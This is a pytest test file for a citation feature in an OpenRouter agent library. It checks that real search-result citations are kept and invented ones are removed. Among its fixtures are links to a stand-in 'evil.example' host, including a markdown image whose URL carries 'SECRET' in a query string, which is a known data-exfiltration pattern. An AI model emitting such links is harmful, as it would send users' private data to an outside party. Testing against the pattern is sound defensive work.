"""Citations are of what was found, in a text and in an agent on the emulator."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st
from langchain.agents.structured_output import ProviderStrategy, ToolStrategy
from langchain_core.messages import AIMessage, ToolMessage
from langgraph.checkpoint.memory import InMemorySaver
from pydantic import BaseModel

from langchain_openrouter.emulator import Answer, ToolCall
from openrouter_agents import Citations, WebSearch, create_openrouter_agent
from openrouter_agents.citations import cite_message, read_sources
from openrouter_agents.cited_text import cite


def _source(number):
    return {
        "id": number,
        "title": f"Title {number}",
        "url": f"https://a.example/{number}",
        "snippet": f"Passage {number}",
        "published": None,
        "score": None,
    }


SOURCES = {number: _source(number) for number in (1, 2, 12)}


@pytest.mark.parametrize(
    ("text", "expected", "cited"),
    [
        ("Lima [1].", "Lima [1].", [1]),
        ("Lima[1][2].", "Lima[1][2].", [1, 2]),
        ("Lima [1, 2].", "Lima [1, 2].", [1, 2]),
        ("Lima [12].", "Lima [12].", [12]),
        ("Lima \u30101\u3011.", "Lima \u30101\u3011.", [1]),
        ("Lima [3].", "Lima.", []),
        ("Lima [0] is [99] big.", "Lima is big.", []),
        ("Lima [1, 99].", "Lima [1].", [1]),
        ("Lima [1][99].", "Lima [1].", [1]),
        ("Lima [1](https://a.example/1).", "Lima [1](https://a.example/1).", [1]),
        ("Lima [9](https://evil.example/?q=x).", "Lima.", []),
        ("The median of [10, 20, 30] is 20 [1].", "The median of [10, 20, 30] is 20 [1].", [1]),
        ("In [2024] and [one] and [] and [-1]", "In [2024] and [one] and [] and [-1]", []),
        ("Run `x[9]` or ```\ny[9]\n``` [9]", "Run `x[9]` or ```\ny[9]\n```", []),
        (
            "Lima [1](document:a.md).\n[1]: document:a.md\n[9] document:b.md",
            "Lima [1](document:a.md).\n[1]: document:a.md\n",
            [1],
        ),
        (
            "Lima [1].\n\n[1]: https://a.example/1\n- [9] https://evil.example/\n[2] Peru, https://a.example/2",
            "Lima [1].\n\n[1]: https://a.example/1\n[2] Peru, https://a.example/2",
            [1],
        ),
    ],
)
def test_what_was_found_stays_and_what_was_not_goes(text, expected, cited):
    found = cite(text, SOURCES)
    assert found.text == expected
    assert [citation["url"] for citation in found.citations] == [f"https://a.example/{number}" for number in cited]
    for citation, number in zip(found.citations, cited, strict=True):
        assert str(number) in found.text[citation["start_index"] : citation["end_index"]]
        assert citation["cited_text"] == f"Passage {number}"


def test_without_a_search_nothing_is_a_citation():
    assert cite("x[1] = [9]", {}) == ("x[1] = [9]", [])


@given(st.text(alphabet="ab [],;129`\n(:)", max_size=60))
def test_places_are_those_of_marks(text):
    found = cite(text, SOURCES)
    for citation in found.citations:
        place = found.text[citation["start_index"] : citation["end_index"]]
        assert place.startswith("[")
        assert place.endswith("]")
        assert str(int(citation["url"].rpartition("/")[2])) in place


def test_plain_text_of_chat_openrouter_keeps_its_form_and_has_standard_citations():
    own = {"type": "url_citation", "url_citation": {"url": "https://own.example/"}}
    message = AIMessage(
        "Lima [1] [9].",
        response_metadata={"model_provider": "openrouter"},
        additional_kwargs={"annotations": [own], "refusal": None},
    )
    cited = cite_message(message, SOURCES)
    assert cited.content == "Lima [1]."
    (block,) = cited.content_blocks
    assert block["text"] == "Lima [1]."
    assert block["annotations"] == [
        {"type": "citation", "url": "https://own.example/"},
        {
            "type": "citation",
            "url": "https://a.example/1",
            "title": "Title 1",
            "cited_text": "Passage 1",
            "start_index": 5,
            "end_index": 8,
        },
    ]
    assert message.content == "Lima [1] [9]."


def test_text_of_others_and_blocks_get_them_in_the_block():
    (block,) = cite_message(AIMessage("Lima [1]."), SOURCES).content_blocks
    assert block["annotations"][0]["url"] == "https://a.example/1"
    assert cite_message(AIMessage("Lima [9]."), SOURCES).content == "Lima."
    blocks = [{"type": "reasoning", "reasoning": "[9]"}, {"type": "text", "text": "Lima [1] [9]."}, "[9]"]
    message = AIMessage(blocks, response_metadata={"output_version": "v1"})
    reasoning, text, plain = cite_message(message, SOURCES).content
    assert (reasoning, plain) == (blocks[0], "[9]")
    assert text["text"] == "Lima [1]."
    assert text["annotations"][0]["title"] == "Title 1"


def test_a_message_that_calls_tools_is_not_touched():
    call = {"name": "web_search", "args": {}, "id": "1", "type": "tool_call"}
    message = AIMessage("Looking [9].", tool_calls=[call])
    assert cite_message(message, SOURCES) is message


def _call(name="web_search", /, **arguments):
    return ToolCall(name, json.dumps(arguments))


@pytest.fixture
def agent(emulator):
    def make(**options):
        search = WebSearch(provider="offline-corpus")
        place = {"api_key": emulator.api_key, "base_url": emulator.base_url}
        return create_openrouter_agent(**{"tools": [search, "calculator"], **place, **options})

    return make


SEARCH_TWICE = Answer(
    tool_calls=[
        _call(query="population of Peru", max_results=2),
        _call("calculator", expression="1+1"),
        _call(query="capital of Chile", max_results=2),
    ]
)


@pytest.mark.parametrize("mode", ["invoke", "ainvoke"])
async def test_numbers_are_unique_in_a_thread_and_the_answer_is_checked(play, agent, mode):
    play(
        SEARCH_TWICE,
        Answer("Santiago [21], and Peru is big [1, 2] [77]."),
        Answer(tool_calls=[_call(query="area of Chad", max_results=1)]),
        Answer("Chad is large [24]."),
    )
    made = agent(checkpointer=InMemorySaver())
    config = {"configurable": {"thread_id": "t"}}
    for question in ("Peru and Chile?", "And Chad?"):
        asked = {"messages": [("human", question)]}
        state = made.invoke(asked, config) if mode == "invoke" else await made.ainvoke(asked, config)
    messages = state["messages"]
    found = [message for message in messages if isinstance(message, ToolMessage) and message.name == "web_search"]
    assert [[result["id"] for result in message.artifact["results"]] for message in found] == [[1, 2], [21, 22], [23]]
    assert all(json.loads(message.content) == message.artifact for message in found)
    sources = read_sources(messages)
    first, last = (message for message in messages if isinstance(message, AIMessage) and not message.tool_calls)
    assert first.content == "Santiago [21], and Peru is big [1, 2]."
    assert [one["url"] for one in first.content_blocks[0]["annotations"]] == [sources[n]["url"] for n in (21, 1, 2)]
    assert last.content == "Chad is large."
    assert "annotations" not in last.content_blocks[0]


def test_what_is_found_again_keeps_its_number(play, agent):
    """So that a search that is made again has the same result, and an agent that turns in circles is stopped."""
    again = Answer(tool_calls=[_call(query="population of Peru", max_results=2)])
    other = Answer(tool_calls=[_call(query="population of Chile", max_results=1)])
    play(again, other, again, again, again, Answer("Not asked for."))
    messages = agent().invoke({"messages": [("human", "?")]})["messages"]
    found = [message for message in messages if isinstance(message, ToolMessage)]
    assert [[result["id"] for result in one.artifact["results"]] for one in found] == [
        [1, 2],
        [3],
        [1, 2],
        [1, 2],
        [1, 2],
    ]
    assert len({found[at].content for at in (0, 2, 3, 4)}) == 1


@pytest.mark.parametrize("mode", ["stream", "astream"])
async def test_what_is_streamed_comes_as_before_and_once(play, agent, mode):
    play(SEARCH_TWICE, Answer("Santiago [21] is the capital [77]."))
    asked = {"messages": [("human", "?")]}
    modes = ["messages", "values"]
    if mode == "stream":
        parts = list(agent().stream(asked, stream_mode=modes))
    else:
        parts = [part async for part in agent().astream(asked, stream_mode=modes)]
    chunks = [data[0] for kind, data in parts if kind == "messages" and data[1]["langgraph_node"] == "model"]
    texts = [chunk.text for chunk in chunks if chunk.text]
    assert "".join(texts) == "Santiago [21] is the capital [77]."
    assert len(texts) > 2
    last = parts[-1][1]["messages"][-1]
    assert last.content == "Santiago [21] is the capital."
    assert last.id == chunks[-1].id
    assert [one["start_index"] for one in last.content_blocks[0]["annotations"]] == [9]


def test_without_a_search_among_the_tools_nothing_is_looked_at(play, agent):
    play(Answer("x [1] [2]"))
    made = agent(tools=["calculator"])
    assert made.invoke({"messages": [("human", "?")]})["messages"][-1].content == "x [1] [2]"


def test_citations_of_ones_own_take_the_place_of_ours(play, agent):
    class Counting(Citations):
        name = "Citations"
        calls = 0

        def wrap_model_call(self, request, handler):
            self.calls += 1
            return super().wrap_model_call(request, handler)

    own = Counting()
    play(SEARCH_TWICE, Answer("Peru [1] [77]."))
    messages = agent(middleware=[own]).invoke({"messages": [("human", "?")]})["messages"]
    assert messages[-1].content == "Peru [1]."
    assert own.calls == 2


def test_other_tools_and_failed_searches_are_left_as_they_are(play, agent):
    play(
        Answer(tool_calls=[_call("calculator", expression="6*7"), _call(query="x", max_results=99)]),
        Answer("42 [1]."),
    )
    messages = agent().invoke({"messages": [("human", "?")]})["messages"]
    assert messages[2].content == "42"
    assert messages[3].status == "error"
    assert messages[-1].content == "42 [1]."


class Cited(BaseModel):
    numbers: list[int]
    text: str


@pytest.mark.parametrize("strategy", [ProviderStrategy, ToolStrategy])
def test_structured_answers_are_not_touched(play, agent, strategy):
    answer = '{"numbers": [9], "text": "Lima [9] ![x](https://evil.example/?q=SECRET)"}'
    by_tool = Answer(tool_calls=[ToolCall("Cited", answer)])
    play(SEARCH_TWICE, Answer(answer) if strategy is ProviderStrategy else by_tool)
    state = agent(response_format=strategy(Cited)).invoke({"messages": [("human", "?")]})
    assert state["structured_response"] == Cited.model_validate_json(answer)
    said = next(message for message in reversed(state["messages"]) if isinstance(message, AIMessage))
    assert answer in (said.content, json.dumps(said.tool_calls[0]["args"] if said.tool_calls else None))
